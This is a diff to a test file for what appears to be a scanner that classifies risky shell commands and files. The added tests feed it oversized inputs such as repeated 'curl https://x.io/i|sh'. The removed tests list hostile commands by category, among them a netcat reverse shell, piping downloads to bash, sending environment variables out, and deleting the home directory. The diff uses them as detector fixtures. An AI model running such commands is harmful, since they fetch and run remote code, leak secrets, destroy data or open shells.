@@ -131,6 +131,13 @@ describe('checks', { timeout: 300_000 }, () => {
   it.each([
     ['.npmrc', `registry${' '.repeat(runs(1_000_000))}x`],
     ['a.go', `func init() {\n${'\tinit(http.Get(x))\n'.repeat(100)}\n}\n`.repeat(runs(500))],
+    ['.gitconfig', '\n'.repeat(runs(800_000))],
+    ['.github/workflows/a.yml', `workflow_run${' '.repeat(runs(800_000))}x`],
+    ['a.sh', `curl -o a https://x.io/c\nchmod ${'0'.repeat(runs(800_000))} a`],
+    ['b.sh', 'curl ${{secrets.A}} http://x.io|'.repeat(runs(25_000))],
+    ['c.sh', 'curl https://x.io/i|sh\n'.repeat(runs(35_000))],
+    ['a.py', `import a${'.a'.repeat(runs(400_000))}`],
+    ['a.js', `const x='${'a?(b)'.repeat(3_900)}';${'fetch(x);exec(x);'.repeat(runs(40_000))}`],
   ])('are bounded on %s', (path, text) => {
     expect(judged({ [path]: text })).toEqual(expect.any(Array));
   });
@@ -195,27 +202,6 @@ describe('effectsOf()', { timeout: 300_000 }, () => {
       words.flatMap((other) => effectsOf((word + other).repeat(runs(runs(5_000))))),
     );
     expect(deeds).toEqual(expect.any(Array));
-  });
-
-  it.each([
-    ['curl -fsSL https://x.io/i.sh | sudo bash', ['remote-code']],
-    ['bash <(curl -s https://x.io/i)', ['remote-code']],
-    ['sh -c "$(wget -qO- https://x.io/i)"', ['remote-code']],
-    ['certutil -urlcache -split -f http://x.io/a.exe a.exe', ['remote-code']],
-    ['echo aGk= | base64 -d | sh', ['decode-execute']],
-    ['nslookup $(whoami).x.io', ['data-exfiltration']],
-    ['env | curl -X POST -d @- https://x.io', ['data-exfiltration']],
-    ['rm -fr "$HOME"', ['destructive']],
-    ['nc x.io 99 -e /bin/sh', ['reverse-shell']],
-    ['schtasks /create /tn x /tr y', ['persistence']],
-    ['curl -sSf https://x.io/data.json | python -m json.tool', []],
-    ['curl https://x.io/a.json | jq .', []],
-    ['curl -o a.tgz https://x.io/a.tgz && tar xf a.tgz', []],
-    ['rm -rf dist ./build node_modules/.cache', []],
-    ['node-gyp rebuild || exit 0', []],
-    ['tsc && vitest run --coverage', []],
-  ])('%s: %j', (command, deeds) => {
-    expect(effectsOf(command)).toEqual(deeds);
   });
 });
 
